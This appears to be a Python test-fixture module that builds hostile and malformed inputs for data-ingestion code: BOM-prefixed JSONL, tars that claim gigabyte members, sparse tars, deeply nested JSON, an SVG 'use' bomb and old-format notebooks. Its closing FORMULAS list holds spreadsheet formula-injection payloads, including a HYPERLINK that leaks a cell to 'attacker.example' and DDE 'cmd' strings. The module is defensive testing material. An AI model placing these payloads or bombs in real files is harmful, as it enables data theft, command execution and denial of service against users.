"""Small hostile and real-world record files for the caption, SFT, text and notebook sources.

Each maker gives the bytes of one condition seen in the wild (a byte-order mark, a raw U+2028, a
WebDataset tar written out of order, a tar whose header claims gigabytes, an nbformat 3 notebook, an
SVG of nested ``<use>``...), small enough to build in a test. Claims of size are made by headers
(gzip of a header, GNU sparse maps, sparse files), never by writing gigabytes.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import tarfile

from PIL import Image

GIB = 2**30


def png(color=(200, 60, 40), size=(64, 48)) -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, format="PNG")
    return buf.getvalue()


def jsonl(records: list) -> bytes:
    """JSON Lines with non-ASCII kept raw (ensure_ascii off), as most tools write them."""
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records).encode("utf-8")


def with_bom(data: bytes) -> bytes:
    return b"\xef\xbb\xbf" + data


def tar(members: list[tuple[str, bytes]], compress: bool = False) -> bytes:
    """An uncompressed (or gzip-compressed) tar of ``members`` in the order given."""
    from samples.quality_maker import tar_bytes

    data = tar_bytes(members, tarfile.GNU_FORMAT)
    return gzip.compress(data, mtime=0) if compress else data


def claimed_member_tar(before: list[tuple[str, bytes]], name: str, size: int = 2 * GIB) -> bytes:
    """A gzip-compressed tar whose last member's header claims ``size`` bytes (then the data stops):
    what a few MB of gzip holding gigabytes of zeros looks like to a reader before it reads."""
    head = tar(before)[:-2 * 512]  # the members, without tarfile's end-of-archive blocks
    head = head[:len(head) - len(head) % 512]
    while head.endswith(b"\0" * 512):
        head = head[:-512]
    info = tarfile.TarInfo(name)
    info.size, info.mtime = size, 0
    return gzip.compress(head + info.tobuf(format=tarfile.GNU_FORMAT) + b"\0" * 4096, mtime=0)


def sparse_member_tar(name: str, size: int = 2 * GIB, after: list[tuple[str, bytes]] = ()) -> bytes:
    """A 10 KB tar holding a GNU sparse member of ``size`` bytes (5 stored, the rest a hole), then ``after``."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as out:
        info = tarfile.TarInfo(name)
        info.size, info.mtime = 5, 0
        info.pax_headers = {"GNU.sparse.size": str(size), "GNU.sparse.map": "0,5"}
        out.addfile(info, io.BytesIO(b"hello"))
        for member, data in after:
            extra = tarfile.TarInfo(member)
            extra.size, extra.mtime = len(data), 0
            out.addfile(extra, io.BytesIO(data))
    return buf.getvalue()


def nested_json(depth: int) -> str:
    """A valid JSON object nested ``depth`` lists deep (past the parser's recursion limit)."""
    return '{"conversations": ' + "[" * depth + "]" * depth + "}"


def data_uri(data: bytes, mime: str = "image/png") -> str:
    return f"data:{mime};base64,{base64.b64encode(data).decode()}"


def svg_use_bomb(levels: int = 10, fan: int = 10) -> str:
    """``fan`` ** ``levels`` rectangles in about 2.5 KB: each level's group uses the one below ``fan`` times."""
    parts = ['<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
             'width="100" height="100"><defs><rect id="l0" width="1" height="1"/>']
    for level in range(1, levels + 1):
        parts.append(f'<g id="l{level}">' + f'<use xlink:href="#l{level - 1}"/>' * fan + "</g>")
    parts.append(f'</defs><use xlink:href="#l{levels}"/></svg>')
    return "".join(parts)


def svg_figure() -> str:
    """A small, ordinary SVG figure (a bar chart of three bars)."""
    bars = "".join(f'<rect x="{10 + 30 * i}" y="{80 - h}" width="20" height="{h}" fill="#3060c0"/>'
                   for i, h in enumerate((30, 60, 45)))
    return f'<svg xmlns="http://www.w3.org/2000/svg" width="120" height="90">{bars}</svg>'


PLOT_CODE = ("import matplotlib.pyplot as plt\n"
             "months = [1, 2, 3, 4]\n"
             "sales = [10, 14, 9, 17]\n"
             "fig, ax = plt.subplots()\n"
             "ax.bar(months, sales)\n"
             "ax.set_title('Sales')\n")


def notebook_v4(outputs: list[dict], code: str = PLOT_CODE) -> bytes:
    """An nbformat 4 notebook of one code cell with ``outputs``."""
    cell = {"cell_type": "code", "execution_count": 1, "metadata": {}, "source": code, "outputs": outputs}
    return json.dumps({"nbformat": 4, "nbformat_minor": 5, "cells": [cell],
                       "metadata": {"kernelspec": {"name": "python3", "language": "python"}}}).encode()


def notebook_v3(image: bytes, code: str = PLOT_CODE) -> bytes:
    """An nbformat 3 notebook (``worksheets``, ``input``, a ``png`` output), as the v3 API writes it."""
    from nbformat import v3

    cell = v3.new_code_cell(input=code, prompt_number=1, outputs=[
        v3.new_output("display_data", output_png=base64.b64encode(image).decode(), output_text="<Figure>")])
    notebook = v3.new_notebook(worksheets=[v3.new_worksheet(cells=[cell])], metadata=v3.new_metadata())
    return v3.writes_json(notebook).encode()


FORMULAS = ['=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
            "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1", "＝1+1"]
